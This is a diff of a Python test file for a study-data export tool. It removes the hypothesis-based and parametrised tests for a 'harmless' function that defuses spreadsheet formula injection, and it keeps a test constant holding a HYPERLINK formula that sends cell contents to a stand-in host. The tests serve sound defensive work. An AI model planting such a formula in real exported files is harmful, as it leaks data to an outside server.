@@ -11,8 +11,6 @@ from pathlib import Path
 
 import numpy as np
 import pytest
-from hypothesis import given
-from hypothesis import strategies as st
 
 from mimik.capture.simulation import simulate
 from mimik.errors import StudyError
@@ -20,7 +18,6 @@ from mimik.frame import COLUMNS, NOT_TRACKED, Frame
 from mimik.protocol import parse_protocol
 from mimik.study import SessionFacts, Study
 from mimik.study.takeout import write_takeout
-from mimik.study.takeouttables import harmless
 
 START = 1_770_000_000.0
 EVIL = '=HYPERLINK("http://192.0.2.1/"&A1)'
@@ -142,24 +139,6 @@ def test_no_text_runs_as_a_formula_and_numbers_stay(study: Study, tmp_path: Path
     assert strength["answer"] == "-3"
     assert table(tmp_path / "own.zip", "ses-01/events.csv")[0]["note"] == "'@operator: came late"
     assert table(tmp_path / "own.zip", "ses-01/exclusions.csv")[0]["reason"] == "'-bad light"
-
-
-@given(st.text())
-def test_a_harmless_cell_begins_as_no_formula_and_can_be_had_back(text: str) -> None:
-    cell = harmless(text)
-    assert cell.removeprefix("'") == text.removeprefix("'")
-    if cell.startswith(tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")):
-        float(cell.replace(",", "."))  # only numbers begin so
-
-
-@pytest.mark.parametrize("text", ["=1+1", "+1+1", "-1+A1", "@SUM(A1)", "\t=1", "\r=1", "\uff1d1"])
-def test_what_spreadsheets_run_is_made_harmless(text: str) -> None:
-    assert harmless(text) == f"'{text}"
-
-
-@pytest.mark.parametrize("text", ["", "-3", "+4.5", "-1,5", "1e-5", "words", "a=b", "sub-AAA"])
-def test_numbers_and_plain_words_stay(text: str) -> None:
-    assert harmless(text) == text
 
 
 def test_a_person_can_read_what_the_files_are_in_both_languages(study: Study, tmp_path: Path) -> None:
